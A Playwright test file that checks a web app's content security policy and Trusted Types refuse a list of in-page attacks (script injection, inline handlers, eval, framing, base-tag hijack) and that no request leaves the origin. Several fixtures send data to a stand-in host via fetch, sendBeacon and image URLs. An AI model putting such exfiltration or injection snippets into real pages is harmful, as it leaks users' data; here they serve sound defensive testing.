import type { Page } from '@playwright/test';
import { expect, serverTest as test } from './table.ts';

/** Runs an attack in the page. Returns the directive of the content security policy that blocked it, or "". */
const refusedBy = (page: Page, attack: () => unknown): Promise<string> =>
  page.evaluate(
    `new Promise((known) => {
      const refused = ({ effectiveDirective }) => known(effectiveDirective);
      document.addEventListener('securitypolicyviolation', refused, { once: true });
      Promise.resolve().then(${attack.toString()}).then(() => setTimeout(known, 30_000, ''), () => setTimeout(known, 30_000, ''));
    })`,
  );

/** Attacks by a script in the page, each with the directive that must block it. */
const ATTACKS: readonly (readonly [rule: RegExp, what: string, attack: () => unknown])[] = [
  [
    /^(script-src-elem|require-trusted-types-for)$/,
    'a script written into the page',
    () => document.body.append(Object.assign(document.createElement('script'), { text: ' ' })),
  ],
  [
    /^(script-src-attr|require-trusted-types-for)$/,
    'a handler written on an element',
    () => {
      const line = document.createElement('p');
      document.body.append(line);
      line.setAttribute('onclick', 'document.title = "taken"');
      line.click();
    },
  ],
  [/^connect-src$/, 'records sent to another host', () => fetch('https://elsewhere.example/', { mode: 'no-cors' })],
  [
    /^connect-src$/,
    'records sent as the page is left',
    () => navigator.sendBeacon('https://elsewhere.example/', 'men'),
  ],
  [
    /^img-src$/,
    'records sent as the address of a picture',
    () => {
      new Image().src = 'https://elsewhere.example/?men';
    },
  ],
  [
    /^style-src-elem$/,
    'a style of another host',
    () => {
      const link = { rel: 'stylesheet', href: 'https://elsewhere.example/a.css' };
      document.head.append(Object.assign(document.createElement('link'), link));
    },
  ],
  [
    /^frame-src$/,
    'a page of another host in ours',
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' })),
  ],
  [
    /^base-uri$/,
    'another base for every address',
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })),
  ],
];

test('the security policy refuses nothing that the page does', async ({ page, table }) => {
  const logged: string[] = [];
  page.on('console', (message) => logged.push(message.text()));
  page.on('pageerror', (error) => logged.push(error.message));
  await page.goto('/');
  await expect(table.sentence('ready')).toBeVisible();
  expect(logged).toEqual([]);
});

test('a worker starts only from an address that the policy allows', async ({ page }) => {
  await page.goto('/');
  const start = page.evaluate(() => void new Worker('worker.js'));
  await expect(start).rejects.toThrow(/TrustedScriptURL|blocked by CSP/);
});

for (const where of ['/', '/recover.html'])
  test(`on ${where} the attacks are refused`, async ({ page }) => {
    await page.goto(where);
    for (const [rule, what, attack] of ATTACKS) expect(await refusedBy(page, attack), what).toMatch(rule);
  });

test('Trusted Types refuse HTML from text, eval and a second policy', async ({ page }) => {
  await page.goto('/');
  const tried = await page.evaluate(async () => {
    // Code that the driver evaluates directly may call eval. Code that runs later counts as the page's own.
    await new Promise((later) => setTimeout(later));
    return [
      () => {
        document.body.innerHTML = '<b>taken</b>';
      },
      // biome-ignore lint/security/noGlobalEval: the test checks that it is refused
      () => globalThis.eval('1'),
      () => document.createElement('script').setAttribute('src', 'https://elsewhere.example/a.js'),
      () => window.trustedTypes?.createPolicy('another', { createScriptURL: (address) => address }),
      () => window.trustedTypes?.createPolicy('rollcall', { createScriptURL: (address) => address }),
    ].map((attack) => {
      try {
        attack();
        return 'let through';
      } catch {
        return 'refused';
      }
    });
  });
  expect(tried).toEqual(['refused', 'refused', 'refused', 'refused', 'refused']);
});

test('no request leaves the origin during a campaign, a fight and a backup', async ({ table, server }) => {
  const asked = new Set<string>();
  table.page.context().on('request', (request) => asked.add(new URL(request.url()).origin));
  await table.page.goto('/');
  await expect(table.sentence('ready')).toBeVisible();
  await table.beginSample();
  await table.openTab('Play');
  await table.begin('Close combat', { from: 'Contact' });
  await table.acceptShown();
  await table.enterTotal(24);
  await table.enterTotal(12);
  await table.enterCards('2s', 'Ah', '3s', 'Kd', '4s', '5h');
  await table.accept();
  await table.page.goto('/#/settings');
  await expect(table.sentence('backupState').first()).toBeVisible();
  await table.page.goto('/recover.html');
  await expect(table.button('saveCopy')).toBeVisible();
  expect([...asked].map((origin) => `${origin}/`)).toEqual([server.address]);
});
